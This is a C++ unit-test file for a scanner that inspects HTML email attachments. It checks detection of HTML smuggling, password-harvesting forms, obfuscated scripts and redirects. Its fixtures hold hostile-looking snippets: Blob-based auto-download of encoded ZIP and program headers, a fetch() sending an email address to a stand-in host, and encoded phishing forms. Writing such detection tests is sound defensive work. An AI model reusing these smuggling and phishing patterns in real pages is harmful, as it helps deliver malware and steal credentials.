// HTML attachments: what builds files, asks for passwords or hides itself, and what only looks so.
#include <string>

#include <CppUTest/TestHarness.h>

#include "tests/inspect/look.h"

using inspect::Mark;
using looking::base64;
using looking::what;

namespace {

inspect::Report page(const std::string& html)
{
    return looking::look("page.html", "text/html", html);
}

inspect::Report script(const std::string& js)
{
    return page("<html><body><p>Please wait while we prepare it.</p><script>" + js
        + "</script></body></html>");
}

bool harmless(const inspect::Report& r)
{
    return !r.has(Mark::Smuggling) && !r.has(Mark::CredentialForm) && !r.has(Mark::Obfuscated);
}

const std::string zip_head = std::string("PK\x03\x04\x14\0\0\0\0\0", 10) + "invoice and more bytes";
const std::string blob = "var b=new Blob([a]);var l=document.createElement('a');"
                         "l.href=URL.createObjectURL(b);l.download='order.zip';l.click();";

// Letters and digits without pattern, as encoded or encrypted text has.
std::string noise(std::size_t n)
{
    std::string s;
    for (std::uint32_t x = 12345; s.size() < n; x = x * 1103515245 + 12345)
        s += "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[x >> 16 & 63];
    return s;
}

// As much of a Windows program as its magic needs.
std::string program_file()
{
    std::string s(200, '\0');
    s.replace(0, 2, "MZ");
    s[0x3C] = 0x40;
    s.replace(0x40, 2, "PE");
    return s;
}

std::string repeat(std::string_view s, std::size_t n)
{
    std::string out;
    for (std::size_t i = 0; i < n; ++i)
        out += s;
    return out;
}

} // namespace

TEST_GROUP(HtmlFile) {};

TEST(HtmlFile, OrdinaryPagesAreHarmless)
{
    CHECK_TRUE(harmless(page("<html><body><h1>Report</h1><p>All is well.</p></body></html>")));
    CHECK_TRUE(harmless(page("<p>See <a href='https://shop.example/'>the shop</a>.</p>")));
    CHECK_TRUE(harmless(script("document.getElementById('menu').innerHTML = 'Contents';")));
    CHECK_TRUE(harmless(script("if (window.location.href == 'x') print();")));
}

TEST(HtmlFile, TheBodyIsNotAFile)
{
    core::Message m = looking::attached("", "text/html", "<input type=password>");
    m.parts[0].disposition = core::Disposition::None;
    const support::FakeClock clock;
    const auto report
        = inspect::inspect(m, {}, core::Deadline::in(clock, std::chrono::seconds { 1 }));
    CHECK_TRUE(report.marks.empty());
}

TEST(HtmlFile, DecodingBuildingAndSavingIsSmuggling)
{
    CHECK_TRUE(
        script("var a=atob(document.getElementById('d').innerText);" + blob).has(Mark::Smuggling));
    CHECK_TRUE(
        script("fetch('/x').then(r=>r.blob()).then(a=>{" + blob + "})").has(Mark::Smuggling));
    CHECK_TRUE(script("var a='" + noise(1200) + "';" + blob).has(Mark::Smuggling));
    CHECK_TRUE(script("x=window['at'+'ob'](q);y=new window['Bl' + 'ob']([x]);"
                      "navigator['msSave' + 'OrOpenBlob'](y)")
                   .has(Mark::Smuggling));
}

TEST(HtmlFile, BuildingAFileOfTheTableShownIsNot)
{
    CHECK_FALSE(script("var a=rows.map(r=>r.join(';')).join('\\n');" + blob).has(Mark::Smuggling));
}

TEST(HtmlFile, ArchivesAsTextAreSmuggling)
{
    const std::string b64 = base64(zip_head);
    CHECK_TRUE(script("var d='" + b64 + "'").has(Mark::Smuggling));
    CHECK_TRUE(script("var d='" + b64.substr(0, 20) + "' + \n '" + b64.substr(20) + "'")
                   .has(Mark::Smuggling));
    const std::string program = base64(program_file());
    CHECK_TRUE(script("var d='" + program + "'").has(Mark::Smuggling));
    CHECK_TRUE(script("var d='" + std::string(program.rbegin(), program.rend()) + "'")
                   .has(Mark::Smuggling));
    CHECK_TRUE(
        page("<a href='data:application/zip;base64," + b64 + "'>open</a>").has(Mark::Smuggling));
    CHECK_FALSE(page("<p>text</p><img src='data:image/png;base64,"
        + base64(std::string("\x89PNG\r\n\x1A\n") + std::string(300, 'x')) + "'>")
                    .has(Mark::Smuggling));
}

TEST(HtmlFile, WhatIsSmuggledIsLookedInto)
{
    const auto report = script("var d='" + base64(program_file()) + "'");
    CHECK_TRUE(report.has(Mark::Executable));
}

TEST(HtmlFile, NumbersThatAreBytesAreSmuggling)
{
    const std::string bytes = "77,90,144,0," + repeat("0x1f,12,255,", 40);
    CHECK_TRUE(script("var u=new Uint8Array([" + bytes + "0]);").has(Mark::Smuggling));
    CHECK_TRUE(script("var u=[" + bytes + "0];").has(Mark::Smuggling)); // a program
    CHECK_FALSE(script("var sales=[" + repeat("12,25,31,", 60) + "9];").has(Mark::Smuggling));
}

TEST(HtmlFile, LibrariesMayDoEverything)
{
    const std::string library = repeat("function f(a,b){return a+b}\n", 3000)
        + "g=atob(h);i=new Blob([g]);j=URL.createObjectURL(i);k.download='chart.png';";
    CHECK_TRUE(harmless(script(library + "draw([1,2,3])")));
}

TEST(HtmlFile, PasswordFieldsAskForCredentials)
{
    CHECK_TRUE(page("<form action=https://x.example><input type=Password></form>")
                   .has(Mark::CredentialForm));
    CHECK_TRUE(page("<input type=\"&#112;assword\">").has(Mark::CredentialForm));
    CHECK_TRUE(
        page("<input type=text style='-webkit-text-security:disc'>").has(Mark::CredentialForm));
    CHECK_TRUE(script("d.innerHTML='<input name=p type=\"password\">'").has(Mark::CredentialForm));
    CHECK_TRUE(page("<p>Bitte Passwort eingeben</p><input name=a>").has(Mark::CredentialForm));
    CHECK_FALSE(page("<p>Your name?</p><input name=a>").has(Mark::CredentialForm));
    CHECK_FALSE(page("<p>We never ask for your password.</p>").has(Mark::CredentialForm));
}

TEST(HtmlFile, ALoginBoxOnASavedPageIsNoMatter)
{
    const std::string saved = "<input type=password>"
        + repeat("<p>Much text in many lines of a page. <a href='/a'>more</a></p>", 120);
    CHECK_FALSE(page(saved).has(Mark::CredentialForm));
}

TEST(HtmlFile, AnAddressThatIsSentOn)
{
    CHECK_TRUE(
        script("var m='ben@example.org';fetch('https://x.example/?'+m)").has(Mark::CredentialForm));
    CHECK_TRUE(
        script("location.href='https://x.example/#'+atob('" + base64("ben@example.org") + "')")
            .has(Mark::CredentialForm));
    CHECK_FALSE(script("var author='ben@example.org';").has(Mark::CredentialForm));
    CHECK_FALSE(
        script("var author='ben@example.org';p.innerHTML=author;").has(Mark::CredentialForm));
}

TEST(HtmlFile, EncodedPagesAreReadToo)
{
    const std::string form = "<html><body><form><input type=password></form></body></html>";
    CHECK_TRUE(script("document.write(atob('" + base64(form) + "'))").has(Mark::CredentialForm));
    CHECK_TRUE(script("document.write(atob(atob('" + base64(base64(form)) + "')))")
                   .has(Mark::CredentialForm));
    std::string percent, hex;
    for (const char c : form) {
        const char* const digits = "0123456789abcdef";
        const auto b = static_cast<unsigned char>(c);
        const std::string two { digits[b >> 4], digits[b & 15] };
        percent += "%" + two;
        hex += "\\x" + two;
    }
    CHECK_TRUE(script("document.write(unescape('" + percent + "'))").has(Mark::CredentialForm));
    CHECK_TRUE(script("document.write(\"" + hex + "\")").has(Mark::CredentialForm));
    CHECK_TRUE(page("<p>x</p><iframe src='data:text/html;base64," + base64(form) + "'></iframe>")
                   .has(Mark::CredentialForm));
}

TEST(HtmlFile, ObfuscatedPages)
{
    STRCMP_CONTAINS("scrambled", // 60 names
        what(script(repeat("var _0x1a2b=_0x3c;", 30)), Mark::Obfuscated).c_str());
    CHECK_TRUE(script("eval(atob('" + noise(600) + "'))").has(Mark::Obfuscated));
    CHECK_TRUE(script("q('" + noise(5000) + "')").has(Mark::Obfuscated));
    CHECK_TRUE(page("<html><script>f()</script></html>").has(Mark::Obfuscated));
    CHECK_TRUE(page("<script src=//x.example/a.js></script>").has(Mark::Obfuscated));
    CHECK_FALSE(
        script("q('" + repeat("ordinary words of a text ", 300) + "')").has(Mark::Obfuscated));
    CHECK_FALSE(page("<script type=application/ld+json>{}</script>").has(Mark::Obfuscated));
}

TEST(HtmlFile, PagesThatOnlyLeadOn)
{
    const auto refresh
        = page("<meta http-equiv=refresh content='0; url=https://bad.example/a'><p>Loading</p>");
    CHECK_TRUE(refresh.has(Mark::Obfuscated));
    const auto moved = script("window.location.replace('https://bad.example/b')");
    CHECK_TRUE(moved.has(Mark::Obfuscated));
    CHECK_TRUE(looking::links_to(moved, "bad.example"));
    CHECK_TRUE(script("window['location']['href'] = 'https://bad.example'").has(Mark::Obfuscated));
    CHECK_TRUE(
        page("<body onload=\"location='https://bad.example'\">Wait</body>").has(Mark::Obfuscated));
    CHECK_FALSE(page("<button onclick=\"location='https://shop.example'\">Buy</button>")
                    .has(Mark::Obfuscated));
    CHECK_FALSE(page("<meta http-equiv=refresh content=30><p>Status</p>").has(Mark::Obfuscated));
}

TEST(HtmlFile, LinksOfPagesThatParsingDidNotRead)
{
    const std::string html = "<html><a href='https://elsewhere.example/x'>text</a></html>";
    CHECK_TRUE(looking::links_to(
        looking::look("a.htm", "application/octet-stream", html), "elsewhere.example"));
    CHECK_FALSE(looking::links_to(page(html), "elsewhere.example"));
}

TEST(HtmlFile, TwoBytesALetter)
{
    std::string wide = "\xFF\xFE";
    for (const char c : std::string("<html><input type=password></html>"))
        wide += std::string { c, '\0' };
    CHECK_TRUE(looking::look("a.html", "application/octet-stream", wide).has(Mark::CredentialForm));
}

TEST(HtmlFile, DamagedPages)
{
    looking::look_at_damaged("a.html",
        "<html><script>document.write(atob('" + base64("<form><input type=password>")
            + "'));var a=[77,90,0];/* x */ location.href = 'https://x.example';</script>"
              "<a href='data:text/html;base64,PGh0bWw+'>x</a><iframe srcdoc='&lt;p&gt;'></html>");
}

TEST(HtmlFile, NestedEncodingsEnd)
{
    std::string html = "<html><body>end</body></html>";
    for (int i = 0; i < 8; ++i)
        html = "<html><script>document.write(atob('" + base64(html) + "'))</script></html>";
    CHECK_TRUE(page(html).incomplete);
}

TEST(HtmlFile, ManyEncodedFilesEnd)
{
    core::Limits limits;
    limits.inspect_bytes = 10000;
    const std::string one = "f('" + base64("<html>" + std::string(500, ' ')) + "');";
    const auto report
        = looking::look("a.html", "text/html", "<script>" + repeat(one, 200) + "</script>", limits);
    CHECK_TRUE(report.incomplete);
}
